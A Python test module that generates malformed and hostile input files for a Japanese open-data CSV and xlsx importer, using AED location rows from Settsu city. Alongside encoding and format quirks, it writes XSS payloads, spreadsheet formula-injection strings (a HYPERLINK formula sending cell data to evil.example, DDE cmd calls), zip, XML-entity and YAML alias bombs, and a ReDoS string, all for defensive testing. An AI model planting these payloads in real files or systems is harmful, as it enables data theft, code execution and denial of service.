"""The generated inputs of the bad-input corpus: written at test time, never committed.

Each generator writes one file (named by its key in `GENERATORS`) into a folder
and its docstring says the quirk. Byte-level quirks (encodings, NUL bytes, ZIP
containers, xlsx XML) are made by code because a committed binary cannot be
reviewed; big ones are streamed to disk so the test process stays small. The
readable table the files hold is one 摂津市 AED list in the standard's layout,
so that every quirk sits in an otherwise valid file.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook

ROOT = Path(__file__).resolve().parents[2]
AED_FIELDS: list[str] = [
    f["name"] for f in json.loads((ROOT / "datasets/aed/schema.json").read_text("utf-8"))["fields"]
]
TOILET_FIELDS: list[str] = [
    f["name"]
    for f in json.loads((ROOT / "datasets/public_toilet/schema.json").read_text("utf-8"))["fields"]
]
# Three rows of 摂津市's AED list (a real city, real coordinates), valid as they stand.
AED_ROWS: list[dict[str, str]] = [
    {"名称": "摂津市役所", "名称_カナ": "セッツシヤクショ", "所在地_連結表記": "大阪府摂津市三島1-1-1",
     "緯度": "34.777180", "経度": "135.562210", "設置位置": "本館1階玄関"},
    {"名称": "摂津市民文化ホール", "名称_カナ": "セッツシミンブンカホール",
     "所在地_連結表記": "大阪府摂津市南千里丘5-35", "緯度": "34.776280", "経度": "135.557540",
     "設置位置": "1階事務所"},
    {"名称": "鳥飼図書センター", "名称_カナ": "トリカイトショセンター",
     "所在地_連結表記": "大阪府摂津市鳥飼本町4-6-6", "緯度": "34.786140", "経度": "135.593020",
     "設置位置": "1階カウンター"},
]  # fmt: skip
ONE_GIB = 1 << 30
MIB = 1 << 20


def aed_table(overrides: dict[tuple[int, str], str] | None = None) -> list[list[str]]:
    """The AED list as rows of cells (header first); `overrides` sets (row index, field)."""
    rows = [AED_FIELDS]
    for i, given in enumerate(AED_ROWS):
        values = {"全国地方公共団体コード": "272248", "ID": f"272248-{i + 1:04d}",
                  "地方公共団体名": "大阪府摂津市", **given}  # fmt: skip
        for (row, field), value in (overrides or {}).items():
            if row == i:
                values[field] = value
        rows.append([values.get(name, "") for name in AED_FIELDS])
    return rows


def csv_text(rows: list[list[str]]) -> str:
    def cell(value: str) -> str:
        if any(c in value for c in ',"\r\n'):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(",".join(cell(v) for v in row) + "\r\n" for row in rows)


def aed_csv(overrides: dict[tuple[int, str], str] | None = None) -> str:
    return csv_text(aed_table(overrides))


GENERATORS: dict[str, Callable[[Path], None]] = {}


def generated(name: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def register(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        GENERATORS[name] = fn
        return fn

    return register


# --- a good file, the reference the quirks are measured against ---------------------------


@generated("aed-good.csv")
def aed_good(path: Path) -> None:
    """The AED list as it should be: UTF-8, the standard's columns, valid."""
    path.write_text(aed_csv(), encoding="utf-8", newline="")


# --- encodings -------------------------------------------------------------------------------


@generated("cp932-with-utf8-line.csv")
def cp932_with_utf8_line(path: Path) -> None:
    """CP932 (Excel's CSV) with row 3 pasted in as UTF-8: mixed encodings."""
    lines = aed_csv().splitlines(keepends=True)
    data = b"".join(line.encode("utf-8" if i == 2 else "cp932") for i, line in enumerate(lines))
    path.write_bytes(data)


@generated("utf8-with-cp932-line.csv")
def utf8_with_cp932_line(path: Path) -> None:
    """UTF-8 with row 4 pasted in as CP932 (㈱髙﨑 in 設置位置)."""
    lines = aed_csv({(2, "設置位置"): "㈱髙﨑ビル1階"}).splitlines(keepends=True)
    path.write_bytes(
        b"".join(line.encode("cp932" if i == 3 else "utf-8") for i, line in enumerate(lines))
    )


@generated("euc-jp.csv")
def euc_jp(path: Path) -> None:
    """The AED list in EUC-JP (an old Unix system's export)."""
    path.write_bytes(aed_csv().encode("euc-jp"))


@generated("cp932.csv")
def cp932(path: Path) -> None:
    """The AED list in CP932, as Excel saves "CSV (comma delimited)"."""
    path.write_bytes(aed_csv().encode("cp932"))


@generated("latin1-named.csv")
def latin1_named(path: Path) -> None:
    """A European Latin-1 export named .csv: no Japanese at all, é ü ß as single bytes."""
    text = "Name,Adresse,Bemerkung\r\nCafé Müller,Straße 1,Öffnungszeiten ½ Tag\r\n"
    path.write_bytes(text.encode("latin-1"))


@generated("utf16le-no-bom.csv")
def utf16le_no_bom(path: Path) -> None:
    """UTF-16 little-endian without a BOM (Excel's "Unicode text" with the BOM cut off)."""
    path.write_bytes(aed_csv().encode("utf-16-le"))


@generated("utf16be-no-bom.csv")
def utf16be_no_bom(path: Path) -> None:
    """UTF-16 big-endian without a BOM."""
    path.write_bytes(aed_csv().encode("utf-16-be"))


# --- containers and bytes that are not a table ----------------------------------------------


@generated("zip-named.csv")
def zip_named(path: Path) -> None:
    """A ZIP archive (holding the good CSV) named .csv."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("aed.csv", aed_csv())
    path.write_bytes(buffer.getvalue())


@generated("nul-bytes.csv")
def nul_bytes(path: Path) -> None:
    """UTF-8 text with NUL bytes inside a value (row 3, 名称)."""
    path.write_bytes(aed_csv({(1, "名称"): "摂津市民\x00\x00文化ホール"}).encode("utf-8"))


@generated("empty.csv")
def empty(path: Path) -> None:
    """Zero bytes."""
    path.write_bytes(b"")


@generated("header-only.csv")
def header_only(path: Path) -> None:
    """The standard's header and no rows."""
    path.write_text(csv_text([AED_FIELDS]), encoding="utf-8", newline="")


@generated("ragged-rows.csv")
def ragged_rows(path: Path) -> None:
    """Row 3 one cell short (the last column cut), row 4 with two cells too many."""
    rows = aed_table()
    rows[2] = rows[2][:-1]
    rows[3] = [*rows[3], "余分", "余分"]
    path.write_text(csv_text(rows), encoding="utf-8", newline="")


@generated("unclosed-quote.csv")
def unclosed_quote(path: Path) -> None:
    """A quote opened in row 2 and never closed: the rest of the file is one cell."""
    rows = aed_table({(0, "名称"): '"摂津市役所'})
    text = "".join(",".join(row) + "\r\n" for row in rows)
    path.write_text(text, encoding="utf-8", newline="")


@generated("line-5mib.csv")
def line_5mib(path: Path) -> None:
    """The good header, then one 5 MiB line (over the 4 MiB record limit)."""
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(csv_text([AED_FIELDS]))
        out.write("x" * (5 * MIB) + "\r\n")


@generated("line-1gib.csv")
def line_1gib(path: Path) -> None:
    """One line of 1 GiB (no line break at all), streamed to disk in 1 MiB writes."""
    chunk = b"a," * (MIB // 2)
    with path.open("wb") as out:
        for _ in range(ONE_GIB // len(chunk)):
            out.write(chunk)


@generated("wide-100k-columns.csv")
def wide_columns(path: Path) -> None:
    """A header of 100,000 columns (c1 … c100000) and one row: 1 MB, under the line limit."""
    header = ",".join(f"c{i}" for i in range(1, 100_001))
    row = ",".join("1" for _ in range(100_000))
    path.write_text(header + "\r\n" + row + "\r\n", encoding="utf-8", newline="")


# --- values ----------------------------------------------------------------------------------


@generated("emoji-itaiji.csv")
def emoji_itaiji(path: Path) -> None:
    """Emoji and 異体字 in values: 𠮷 (outside the BMP), 髙 (IBM extension), 葛󠄀 (IVS)."""
    path.write_text(aed_csv({
        (0, "名称"): "𠮷野家前🏥AED",
        (0, "設置位置"): "1階 🚪 入口横",
        (1, "名称"): "髙橋記念ホール",
        (2, "名称"): "葛\U000e0100飾図書センター",
    }), encoding="utf-8", newline="")  # fmt: skip


@generated("html-js-cells.csv")
def html_js_cells(path: Path) -> None:
    """HTML and JavaScript in cells: <script>, an attribute break-out with onerror."""
    path.write_text(aed_csv({
        (0, "名称"): "<script>alert('xss')</script>",
        (1, "名称"): '"><img src=x onerror=alert(1)>',
        (2, "設置位置"): "<b>1階</b>",
    }), encoding="utf-8", newline="")  # fmt: skip


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"]  # fmt: skip


@generated("formula-cells.csv")
def formula_cells(path: Path) -> None:
    """Spreadsheet formulas in text cells (OWASP CSV injection): = + @ - at the start."""
    path.write_text(aed_csv({
        (0, "名称"): FORMULAS[0],
        (0, "設置位置"): FORMULAS[1],
        (1, "設置位置"): FORMULAS[2],
        (2, "設置位置"): FORMULAS[3],
    }), encoding="utf-8", newline="")  # fmt: skip


@generated("hostile-cells.csv")
def hostile_cells(path: Path) -> None:
    """For the HTTP side: HTML/JS in 名称, a formula in 設置位置 or 備考 of every row."""
    path.write_text(aed_csv({
        (0, "名称"): "<script>alert('xss')</script>",
        (1, "名称"): '"><img src=x onerror=alert(1)>',
        (0, "設置位置"): FORMULAS[0],
        (1, "設置位置"): FORMULAS[1],
        (2, "設置位置"): FORMULAS[2],
        (2, "備考"): FORMULAS[3],
    }), encoding="utf-8", newline="")  # fmt: skip


@generated("feff-inside-value.csv")
def feff_inside_value(path: Path) -> None:
    """U+FEFF (a BOM) in the middle of 名称 in row 3: invisible, breaks search and matching."""
    path.write_text(
        aed_csv({(1, "名称"): "摂津市民\ufeff文化ホール"}), encoding="utf-8", newline=""
    )


@generated("non-finite-numbers.csv")
def non_finite_numbers(path: Path) -> None:
    """緯度 1e400 (overflows a float) in row 2, 経度 NaN in row 3, 緯度 -inf in row 4."""
    path.write_text(aed_csv({(0, "緯度"): "1e400", (1, "経度"): "NaN", (2, "緯度"): "-inf"}),
                    encoding="utf-8", newline="")  # fmt: skip


def toilet_csv(total: str) -> str:
    values = {"全国地方公共団体コード": "272248", "ID": "272248-0001", "地方公共団体名": "大阪府摂津市",
              "名称": "摂津市役所 公衆トイレ", "所在地_連結表記": "大阪府摂津市三島1-1-1",
              "設置位置": "本館1階", "緯度": "34.777180", "経度": "135.562210",
              "男性トイレ総数": total, "女性トイレ総数": "2"}  # fmt: skip
    return csv_text([TOILET_FIELDS, [values.get(n, "") for n in TOILET_FIELDS]])


@generated("huge-integer-count.csv")
def huge_integer_count(path: Path) -> None:
    """公衆トイレ with 男性トイレ総数 = 99999999999999999999999 (far above 2^63) in row 2."""
    path.write_text(toilet_csv("99999999999999999999999"), encoding="utf-8", newline="")


# --- spreadsheets ----------------------------------------------------------------------------


def _xlsx_bytes(table: list[list[str]], sheet: str = "AED") -> bytes:
    workbook = Workbook()
    ws = workbook.active
    assert ws is not None
    ws.title = sheet
    for row in table:
        ws.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _patch_sheet(data: bytes, edit: Callable[[str], str]) -> bytes:
    """The workbook with sheet1's XML changed by `edit` (every other part copied as it is)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = edit(body.decode("utf-8")).encode("utf-8")
            dst.writestr(item, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _stray_cell(cell_xml: str) -> Callable[[str], str]:
    def edit(xml: str) -> str:
        return xml.replace("</sheetData>", f'<row r="1048576">{cell_xml}</row></sheetData>')

    return edit


@generated("aed-good.xlsx")
def aed_good_xlsx(path: Path) -> None:
    """The good AED list as a workbook (sheet AED)."""
    path.write_bytes(_xlsx_bytes(aed_table()))


@generated("stray-cell-inlinestr.xlsx")
def stray_cell_inlinestr(path: Path) -> None:
    """A stray cell at XFD1048576 written <c t="inlineStr" r="XFD1048576"> (t before r)."""
    cell = '<c t="inlineStr" r="XFD1048576"><is><t>x</t></is></c>'
    path.write_bytes(_patch_sheet(_xlsx_bytes(aed_table()), _stray_cell(cell)))


@generated("stray-cell-two-spaces.xlsx")
def stray_cell_two_spaces(path: Path) -> None:
    """A stray cell at XFD1048576 written <c  r="XFD1048576"> (two spaces before r)."""
    cell = '<c  r="XFD1048576"><v>1</v></c>'
    path.write_bytes(_patch_sheet(_xlsx_bytes(aed_table()), _stray_cell(cell)))


@generated("stray-cell-lying-dimension.xlsx")
def stray_cell_lying_dimension(path: Path) -> None:
    """<dimension ref="A1:AM4"/> (the table) but a value at XFD1048576 all the same."""

    def edit(xml: str) -> str:
        xml = _stray_cell('<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>')(xml)
        start = xml.find("<dimension")
        end = xml.find("/>", start) + 2
        return xml[:start] + '<dimension ref="A1:AM4"/>' + xml[end:]

    path.write_bytes(_patch_sheet(_xlsx_bytes(aed_table()), edit))


@generated("zip-bomb.xlsx")
def zip_bomb(path: Path) -> None:
    """An xlsx whose sheet unpacks to 200 MiB of spaces from about 200 KB."""
    spaces = b" " * MIB
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO(_xlsx_bytes(aed_table()))) as src:
            for item in src.infolist():
                if item.filename != "xl/worksheets/sheet1.xml":
                    archive.writestr(item.filename, src.read(item))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            for _ in range(200):
                member.write(spaces)
            member.write(b"</sheetData></worksheet>")


@generated("entity-bomb.xlsx")
def entity_bomb(path: Path) -> None:
    """Billion laughs: sharedStrings.xml declares nested XML entities (a DTD)."""
    lol = ['<!ENTITY a0 "lollollollollollollollollollol">']
    lol += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    shared = ('<?xml version="1.0"?><!DOCTYPE sst [' + "".join(lol) + "]>"
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
              'uniqueCount="1"><si><t>&a9;</t></si></sst>')  # fmt: skip

    def edit(xml: str) -> str:
        return xml.replace(
            "</sheetData>", '<row r="5"><c r="A5" t="s"><v>0</v></c></row></sheetData>'
        )

    data = _patch_sheet(_xlsx_bytes(aed_table()), edit)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            if item.filename != "xl/sharedStrings.xml":
                dst.writestr(item, src.read(item))
        dst.writestr("xl/sharedStrings.xml", shared)
    path.write_bytes(out.getvalue())


@generated("truncated.xlsx")
def truncated(path: Path) -> None:
    """The good workbook cut off after its first 3,000 bytes (an interrupted upload)."""
    path.write_bytes(_xlsx_bytes(aed_table())[:3000])


@generated("png-named.xlsx")
def png_named(path: Path) -> None:
    """A PNG image named .xlsx."""
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01" * 4)


# --- recipes whose bytes matter --------------------------------------------------------------


@generated("recipe-cp932.yaml")
def recipe_cp932(path: Path) -> None:
    """A recipe saved in CP932 by a Windows editor (recipes are UTF-8)."""
    text = ("version: 1\ntitle: 摂津市 AED\nsource:\n  path: aed-good.csv\n"
            "target:\n  dataset: aed\n  lgcode: '272248'\ncolumns:\n  名称: {from: 名称}\n")  # fmt: skip
    path.write_bytes(text.encode("cp932"))


@generated("recipe-deep-nesting.yaml")
def recipe_deep_nesting(path: Path) -> None:
    """A 200 KB recipe whose title is a list nested 100,000 levels deep ([[[[…]]]])."""
    depth = 100_000
    path.write_text("version: 1\ntitle: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")


@generated("recipe-alias-bomb.yaml")
def recipe_alias_bomb(path: Path) -> None:
    """Billion laughs in YAML: nine levels of anchors, each aliasing the last nine times."""
    lines = ["version: 1", 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        aliases = ",".join(f"*a{i - 1}" for _ in range(9))
        lines.append(f"a{i}: &a{i} [{aliases}]")
    lines += ["source: {path: aed-good.csv}", "target: {dataset: aed, lgcode: '272248'}",
              "columns: {名称: {from: 名称}}"]  # fmt: skip
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


@generated("regex-34a.csv")
def regex_34a(path: Path) -> None:
    """The AED list with 設置位置 of row 2 = 34 a's and a '!': '^(a+)+$' backtracks 2^34 ways."""
    path.write_text(aed_csv({(0, "設置位置"): "a" * 34 + "!"}), encoding="utf-8", newline="")


def generate(folder: Path, names: list[str] | None = None) -> list[Path]:
    """Write the named inputs (default: all) into `folder`; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name in names if names is not None else list(GENERATORS):
        path = folder / name
        GENERATORS[name](path)
        out.append(path)
    return out


if __name__ == "__main__":  # write them somewhere to look at: python tests/badinput/inputs.py DIR
    import sys

    for written in generate(Path(sys.argv[1])):
        print(written)
